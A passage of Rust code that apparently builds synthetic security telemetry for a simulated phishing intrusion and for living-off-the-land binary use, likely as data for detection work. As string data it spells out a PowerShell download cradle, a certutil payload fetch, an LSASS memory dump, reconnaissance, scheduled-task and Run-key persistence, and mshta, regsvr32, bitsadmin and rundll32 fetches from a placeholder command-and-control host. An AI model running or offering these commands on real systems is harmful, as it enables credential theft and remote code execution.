        created: t0 - 5 * TICKS_PER_HOUR,
        account: user.clone(),
        logon_id: 0x3e7_1234,
        company: MS,
        product: WIN,
        description: "Windows Explorer",
        signed: true,
        parent_file: "userinit.exe".into(),
        parent_pid: 812,
        parent_created: t0 - 5 * TICKS_PER_HOUR,
    };
    let child = |ids: &mut Ids, rng: &mut StdRng, parent: &Proc, path: &str, cmd: &str, at: i64, signed: bool| Proc {
        file: file_of(path).to_string(),
        path: path.to_string(),
        cmd: cmd.to_string(),
        pid: ids.pid(rng),
        created: at,
        account: user.clone(),
        logon_id: parent.logon_id,
        company: if signed { MS } else { "" },
        product: if signed { WIN } else { "" },
        description: "",
        signed,
        parent_file: parent.file.clone(),
        parent_pid: parent.pid,
        parent_created: parent.created,
    };
    // The user opens the attachment downloaded from the phishing link.
    let word = child(
        ids,
        &mut rng,
        &explorer,
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        &format!(r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{docm}" /o """#),
        t0,
        true,
    );
    let mut chrome = word.clone();
    chrome.file = "chrome.exe".into();
    chrome.path = r"C:\Program Files\Google\Chrome\Application\chrome.exe".into();
    chrome.cmd = r#""C:\Program Files\Google\Chrome\Application\chrome.exe""#.into();
    file_event(t, d, &chrome, "FileCreated", &docm, Some(PHISH_URL), t0 - TICKS_PER_MINUTE);
    process_event(t, d, &explorer, &word);
    // The macro starts PowerShell with an encoded download cradle.
    let script = format!("IEX (New-Object Net.WebClient).DownloadString('http://{C2_HOST}/a.ps1')");
    let ps = child(
        ids,
        &mut rng,
        &word,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        &format!("powershell.exe -NoP -NonI -W Hidden -EncodedCommand {}", encode_powershell(&script)),
        t0 + 40 * TICKS_PER_SECOND,
        true,
    );
    process_event(t, d, &word, &ps);
    device_event(
        t,
        d,
        &word,
        "AsrOfficeChildProcessAudited",
        vec![
            ("FileName", s("powershell.exe")),
            ("FolderPath", s(&ps.path)),
            ("ProcessCommandLine", s(&ps.cmd)),
            ("ProcessId", long(ps.pid)),
        ],
        ps.created,
    );
    image_load(t, d, &ps, "amsi.dll", ps.created + TICKS_PER_SECOND);
    connection(t, &mut rng, d, &ps, C2_HOST, 80, ps.created + 3 * TICKS_PER_SECOND);
    device_event(
        t,
        d,
        &ps,
        "PowerShellCommand",
        vec![("AdditionalFields", json_text(json!({"Command": "Invoke-Expression"})))],
        ps.created + 4 * TICKS_PER_SECOND,
    );
    // certutil fetches the payload (a LOLBin download).
    let payload_path = format!(r"{temp}\{PAYLOAD}");
    let payload_url = format!("http://{C2_HOST}/{PAYLOAD}");
    let certutil = child(
        ids,
        &mut rng,
        &ps,
        r"C:\Windows\System32\certutil.exe",
        &format!("certutil.exe -urlcache -split -f {payload_url} {payload_path}"),
        ps.created + 20 * TICKS_PER_SECOND,
        true,
    );
    process_event(t, d, &ps, &certutil);
    connection(t, &mut rng, d, &certutil, C2_HOST, 80, certutil.created + TICKS_PER_SECOND);
    file_event(
        t,
        d,
        &certutil,
        "FileCreated",
        &payload_path,
        Some(&payload_url),
        certutil.created + 4 * TICKS_PER_SECOND,
    );
    // The unsigned payload runs, dumps LSASS with comsvcs.dll, explores, persists, beacons.
    let payload = child(
        ids,
        &mut rng,
        &ps,
        &payload_path,
        &format!(r#""{payload_path}" /silent"#),
        certutil.created + 30 * TICKS_PER_SECOND,
        false,
    );
    process_event(t, d, &ps, &payload);
    let dump = child(
        ids,
        &mut rng,
        &payload,
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 724 C:\Windows\Temp\lsass.dmp full",
        payload.created + 2 * TICKS_PER_MINUTE,
        true,
    );
    process_event(t, d, &payload, &dump);
    file_event(t, d, &dump, "FileCreated", r"C:\Windows\Temp\lsass.dmp", None, dump.created + 2 * TICKS_PER_SECOND);
    device_event(
        t,
        d,
        &dump,
        "AntivirusDetection",
        vec![
            ("FileName", s("lsass.dmp")),
            ("FolderPath", s(r"C:\Windows\Temp\lsass.dmp")),
            (
                "AdditionalFields",
                json_text(json!({"ThreatName": "Behavior:Win32/LsassDump.A", "WasRemediated": false})),
            ),
        ],
        dump.created + 3 * TICKS_PER_SECOND,
    );
    let recon = child(
        ids,
        &mut rng,
        &payload,
        r"C:\Windows\System32\cmd.exe",
        r#"cmd.exe /c whoami /all & net group "Domain Admins" /domain & nltest /dclist:"#,
        payload.created + 4 * TICKS_PER_MINUTE,
        true,
    );
    process_event(t, d, &payload, &recon);
    for (k, (file, cmd)) in [
        ("whoami.exe", "whoami /all"),
        ("net.exe", r#"net group "Domain Admins" /domain"#),
        ("nltest.exe", "nltest /dclist:"),
    ]
    .iter()
    .enumerate()
    {
        let p = child(
            ids,
            &mut rng,
            &recon,
            &format!(r"C:\Windows\System32\{file}"),
            cmd,
            recon.created + (k as i64 + 1) * TICKS_PER_SECOND,
            true,
        );
        process_event(t, d, &recon, &p);
    }
    let schtasks = child(
        ids,
        &mut rng,
        &payload,
        r"C:\Windows\System32\schtasks.exe",
        &format!(r#"schtasks /create /tn "OneDrive Update" /tr "{payload_path}" /sc onlogon /f"#),
        payload.created + 5 * TICKS_PER_MINUTE,
        true,
    );
    process_event(t, d, &payload, &schtasks);
    registry(
        t,
        d,
        &payload,
        &format!(r"HKEY_CURRENT_USER\S-1-5-21\{}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", user.sid),
        "OneDriveUpdate",
        &payload_path,
        payload.created + 5 * TICKS_PER_MINUTE + TICKS_PER_SECOND,
    );
    // Hourly beacons since the compromise.
    let mut at = payload.created + 10 * TICKS_PER_MINUTE;
    while at < snap.anchor - TICKS_PER_MINUTE {
        connection(t, &mut rng, d, &payload, C2_HOST, 443, at);
        at += TICKS_PER_HOUR + rng.random_range(0..5 * TICKS_PER_MINUTE);
    }
}

/// Living-off-the-land binaries on a second workstation.
fn lolbins(snap: &Snapshot, t: &mut Tables, ids: &mut Ids) {
    let Some(li) = snap.lolbin_device() else {
        return;
    };
    let d = &snap.devices[li];
    let user = snap.account(snap.owner(li));
    let mut rng = snap.rng("lolbins");
    let base = snap.anchor - 6 * TICKS_PER_DAY;
    let runs: &[(&'static str, &'static str, &'static str)] = &[
        (r"C:\Windows\explorer.exe", r"C:\Windows\System32\mshta.exe", "mshta.exe http://{c2}/update.hta"),
        (
            r"C:\Windows\System32\cmd.exe",
            r"C:\Windows\System32\regsvr32.exe",
            "regsvr32.exe /s /n /u /i:http://{c2}/file.sct scrobj.dll",
        ),
        (
            r"C:\Windows\System32\cmd.exe",
            r"C:\Windows\System32\bitsadmin.exe",
            r"bitsadmin.exe /transfer job1 /download /priority high http://{c2}/b.exe C:\Users\Public\b.exe",
        ),
        (
            r"C:\Windows\System32\cmd.exe",
            r"C:\Windows\System32\rundll32.exe",
            r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://{c2}/r.js")"#,
        ),
    ];
    for (k, run) in runs.iter().enumerate() {
        let (parent, file, cmd) = *run;
        let l = Launch { cmd: "", ..launch(parent, file, "", false, &[]) };
        let when = base + k as i64 * 37 * TICKS_PER_MINUTE;
        let (parent_proc, mut p) = processes(snap, &mut rng, ids, &l, &user, when);
        p.cmd = cmd.replace("{c2}", C2_HOST);
        process_event(t, d, &parent_proc, &p);
        connection(t, &mut rng, d, &p, C2_HOST, 80, when + 2 * TICKS_PER_SECOND);
    }
}
